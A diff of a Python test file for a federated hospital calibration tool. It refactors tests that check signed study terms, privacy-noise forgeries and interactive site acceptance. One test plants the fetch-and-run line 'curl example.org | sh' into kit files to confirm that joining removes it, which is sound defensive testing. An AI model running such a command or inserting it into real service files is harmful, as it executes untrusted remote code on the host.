@@ -3,17 +3,17 @@
 import io
 import json
 from dataclasses import replace
-from functools import partial
+from unittest.mock import Mock
 
 import numpy as np
 import pytest
 from hospitals import SITES, Hospitals, table, write_rows
+from policies import FACTS
 from quarters import connection
 from refusals import each_is_refused, refused
 from studies import study
 
 from fedcal.cli.main import exit_code_of
-from fedcal.clients.site.policy import OWN_NOISE, JobFacts
 from fedcal.clients.site.store import records_in
 from fedcal.datasets.site_csv import Reading
 from fedcal.privacy.agreement import Terms
@@ -25,10 +25,6 @@ from fedcal.sites.sealed import Join, signed_text
 
 pytestmark = pytest.mark.usefixtures("quick_figures")
 ONE = study(",".join(SITES))
-FACTS = JobFacts(
-    *("a" * 64, "evaluate", "subject", "distributed", "add-remove", "laplace", 1.0, 0.0, 1),
-    *(OWN_NOISE, "host:9092", float("inf")),
-)
 
 
 @pytest.fixture
@@ -102,16 +98,19 @@ def test_a_score_is_of_the_positive_class_and_all_sites_are_asked_the_same(tmp_p
     assert other.subjects is not None
 
 
-def test_nothing_of_a_row_is_in_a_join(there):
+def test_nothing_of_a_row_is_in_a_join_and_a_kit_brings_no_code(there):
     there.kits()
-    written = set()
+    kit, written = there.kit(), set()
+    for name in ("fedcal-site.service", "compose.yml"):
+        (kit / name).write_text("#!/bin/sh\ncurl example.org | sh\n")
     for rows in (table(), table(500, 2)):
-        join(there.kit(), str(write_rows(there.folder / "rows.csv", rows)))
+        join(kit, str(write_rows(there.folder / "rows.csv", rows)))
         written.add((there.folder / "alder.join").read_bytes())
     assert len(written) == 1
+    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
     made = Join.read(there.folder / "alder.join")
     assert made.key == read_key(there.own() / "signing.pem").public
-    join(there.kit(), "rows.csv", new_keys=True)
+    join(kit, "rows.csv", new_keys=True)
     assert Join.read(there.folder / "alder.join").key != made.key
 
 
@@ -157,15 +156,6 @@ def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
     refused("6.5 % of 612 lines; at most 5 % may be left out", join, there.kit(), str(rows))
 
 
-def test_a_kit_brings_no_code(there):
-    there.kits()
-    kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
-    for name in ("fedcal-site.service", "compose.yml"):
-        (kit / name).write_text(strange)
-    join(kit, str(write_rows(there.folder / "rows.csv")))
-    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
-
-
 def test_wrong_rows_leave_nothing_behind(there, capsys):
     there.kits()
     write_rows(there.folder / "rows.csv", changed(patient=None))
@@ -176,42 +166,9 @@ def test_wrong_rows_leave_nothing_behind(there, capsys):
     assert "column subject" in capsys.readouterr().err
 
 
-def output(answers, prompt):
-    for answer in answers:
-        return answer
-    raise EOFError(prompt)
-
-
-def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
+def test_a_site_accepts_what_it_was_shown_by_its_own_keys(there, capsys, monkeypatch):
     there.joined()
-    sealed = there.seal()
-    words = ["site", "accept", str(there.kit()), str(there.sealed)]
-    assert exit_code_of(words) == 2  # nobody is here to say yes
-    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
-    for answer, code in ((iter(()), 2), (iter(["no"]), 2), (iter(["yes"]), 0)):
-        assert Kit.read(there.kit()).accepted is None
-        monkeypatch.setattr("builtins.input", partial(output, answer))
-        assert exit_code_of(words) == code
-    shown = capsys.readouterr().out
-    for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
-        assert word in shown
-    assert in_words(sealed.digest) in shown
-    assert Kit.read(there.kit()).accepted == sealed
-
-
-def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
-    there.joined()
-    sealed = there.seal()
-    signer, stranger = (
-        read_key(there.folder / "sepsis-coordinator" / "coordinator.pem"),
-        SigningKey.generate(),
-    )
-
-    def offered(**change):
-        text = replace(sealed, **change).to_text(signer)
-        there.sealed.write_text(text)
-        return there.offer()
-
+    sealed, stranger = there.seal(), SigningKey.generate()
     swapped = {m.name: m.key for m in sealed.roster.sites} | {"alder": stranger.public}
     others = sealed.connections | {"alder": connection("alder")}
     wrong = [
@@ -219,9 +176,24 @@ def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
         ({"connections": others}, "another key for alder"),
         ({"authority": sealed.authority.replace("A", "B")}, "server.s authority in"),
         ({"study": study("alder,birch,cedar", epsilon=9.0)}, "roster of .* is another one"),
+        ({}, ""),
     ]
-    each_is_refused(wrong, lambda change: offered(**change))
-    assert Kit.read(there.kit()).accepted is None
+    for change, why in wrong:
+        there.sealed.write_text(replace(sealed, **change).to_text(there.coordinator))
+        if why:
+            refused(why, there.offer)
+    words = ["site", "accept", str(there.kit()), str(there.sealed)]
+    assert exit_code_of(words) == 2  # nobody is here to say yes
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
+    for answer, code in ((EOFError, 2), ("no", 2), ("yes", 0)):
+        assert Kit.read(there.kit()).accepted is None
+        monkeypatch.setattr("builtins.input", Mock(side_effect=[answer]))
+        assert exit_code_of(words) == code
+    shown = capsys.readouterr().out
+    for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
+        assert word in shown
+    assert in_words(sealed.digest) in shown
+    assert Kit.read(there.kit()).accepted == sealed
 
 
 def test_other_terms_are_shown_and_accepted_anew(there):
@@ -248,7 +220,7 @@ def test_other_terms_are_shown_and_accepted_anew(there):
     refused("1 jobs at this site", join, there.kit(), "rows.csv", new_keys=True)
     assert Kit.read(there.kit()).accepted == sealed_before
     with records_in(there.kit() / "state") as records:
-        records.finish("a" * 64)
+        records.finish(FACTS.job)
     there.offer().accept()
     assert Kit.read(there.kit()).accepted == sealed
     there.sealed.write_text(before, "utf-8")  # somebody sends what was signed once
@@ -258,100 +230,50 @@ def test_other_terms_are_shown_and_accepted_anew(there):
 def test_a_site_accepts_the_studys_own_release_and_nothing_else(there):
     there.joined(away=0, model={"thresholds": (0.1,)})
     sealed = there.seal()
-    of, forge = sealed.study, forging(there, sealed)
+    of, signer = sealed.study, there.coordinator
     config = of.config(engine="study")
 
-    def ask(**change):
+    def offered(asked):
+        there.sealed.write_text(replace(sealed, asked=asked).to_text(signer))
+        return there.offer()
+
+    def of_job(**change):
         settings = {k: v for k, v in (config.set | change.pop("set", {})).items() if v is not None}
         job = job_of(replace(config, clients=3, set=settings, **change), None)
         facts = {"roster": sealed.roster.to_text(), "class_digest": of.class_digest}
-        forge(replace(job, input="probs", **facts).terms())
-        there.offer()
+        return offered(replace(job, input="probs", **facts).terms())
 
-    ask()
-    wrong = [
+    of_job()
+    jobs = [
         ({"epsilon": 1.01}, "epsilon"),
         ({"unit": "example"}, "unit"),
         ({"trust": "central", "colluding": None}, "colluding|trust"),
-        ({"mechanism": "gaussian", "delta": 1e-6}, "delta|mechanism"),
         ({"method": "fedbin", "set": dict.fromkeys(of.settings)}, "method"),
-        ({"set": {"groups": ["alder", "birch"]}}, "settings"),
         ({"set": {"cuts": [0.1, 0.2]}}, "settings"),
-        ({"set": {"encoding": "tree"}}, "settings"),
-        ({"set": {"threshold": 0.310026}}, "settings"),
     ]
-    each_is_refused(wrong, lambda change: ask(**change))
-
-
-def forging(there, sealed):
-    """Puts other terms into the sealed study, signed by its coordinator."""
-    signer = read_key(there.folder / "sepsis-coordinator" / "coordinator.pem")
-    return lambda asked: there.sealed.write_text(replace(sealed, asked=asked).to_text(signer))
-
-
-def of_plan(**change):
-    return lambda plan: plan | {name: new(plan[name]) for name, new in change.items()}
-
-
-def of_noise(factor):
-    return of_plan(
-        mechanism=lambda distribution: [
-            distribution[0],
-            {k: factor * v for k, v in distribution[1].items()},
-        ]
-    )
-
-
-FORGED = {
-    "two thirds of the noise": (of_noise(3 / 2), "noise of the plan"),
-    "three halves of it": (of_noise(2 / 3), "noise of the plan"),
-    "another epsilon": (of_plan(epsilon=lambda e: e / 2), "epsilon of the plan"),
-}
-
-
-@pytest.mark.parametrize("name", FORGED)
-def test_less_noise_than_is_stated_is_refused_at_accept(there, name):
-    change, why = FORGED[name]
-    there.joined()
-    sealed = there.seal()
+    each_is_refused(jobs, lambda change: of_job(**change))
     plain = sealed.asked.to_plain()
-    forging(there, sealed)(Terms.from_plain(plain | {"plan": change(plain["plan"])}))
-    refused(why, there.offer)
-    assert Kit.read(there.kit()).accepted is None
-
-
-def test_a_question_of_a_larger_bound_or_none_is_refused_at_accept(there):
-    there.joined()
-    sealed = there.seal()
-    plain = sealed.asked.to_plain()
-    forge = forging(there, sealed)
-    bound = plain["plan"]["bound"]
-    twice = bound | {"norms": [2 * norm for norm in bound["norms"]]}
-    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"bound": twice}}))
-    refused("bound.norms.0 of the plan that is asked", there.offer)
-    name, parts = plain["plan"]["mechanism"]
-    as_before = {"mechanism": [name, {key: 2 * value for key, value in parts.items()}]}
-    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"bound": twice} | as_before}))
-    refused("noise of the plan", there.offer)
-    forge(Terms.from_plain(plain | {"questions": []}))
-    refused("number of questions", there.offer)
-    (question,) = plain["questions"]
+    plan, (question,) = plain["plan"], plain["questions"]
+    name, parts = plan["mechanism"]
+    twice = plan["bound"] | {"norms": [2 * norm for norm in plan["bound"]["norms"]]}
     wider = question | {"fixed": question["fixed"] | {"edges": [0.0, 0.3, 1.0]}}
-    forge(Terms.from_plain(plain | {"questions": [wider]}))
-    refused("0.fixed.edges of the questions that is asked, by the study itself", there.offer)
-    forge(Terms.from_plain(plain | {"result_bytes": 10**12}))
-    refused("result_bytes that is asked, by the study itself", there.offer)
-    (factor,) = {value for value in parts.values() if value}
-    digits = {key: value * (1 + 1e-12) for key, value in parts.items()}
-    assert factor * (1 + 1e-12) != factor
-    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"mechanism": [name, digits]}}))
-    there.offer()  # another type of CPU has made it
 
+    def noise(factor):
+        return plan | {"mechanism": [name, {k: factor * value for k, value in parts.items()}]}
 
-def test_a_sealed_study_without_what_is_asked_is_refused(there):
-    there.joined()
-    sealed = there.seal()
+    forged = [
+        ({"plan": noise(2 / 3)}, "noise of the plan"),
+        ({"plan": noise(3 / 2)}, "noise of the plan"),
+        ({"plan": plan | {"epsilon": plan["epsilon"] / 2}}, "epsilon of the plan"),
+        ({"plan": plan | {"bound": twice}}, "bound.norms.0 of the plan that is asked"),
+        ({"plan": noise(2) | {"bound": twice}}, "noise of the plan"),
+        ({"questions": []}, "number of questions"),
+        ({"questions": [wider]}, "0.fixed.edges of the questions that is asked, by the study"),
+        ({"result_bytes": 10**12}, "result_bytes that is asked, by the study itself"),
+    ]
+    each_is_refused(forged, lambda change: offered(Terms.from_plain(plain | change)))
+    offered(Terms.from_plain(plain | {"plan": noise(1 + 1e-12)}))  # another type of CPU's
     fields = {name: value for name, value in sealed._fields.items() if name != "asked"}
-    signer = read_key(there.folder / "sepsis-coordinator" / "coordinator.pem")
     there.sealed.write_text(signed_text(fields, "study-sealed", signer))
     refused("asked", there.offer)
+    assert Kit.read(there.kit()).accepted is None
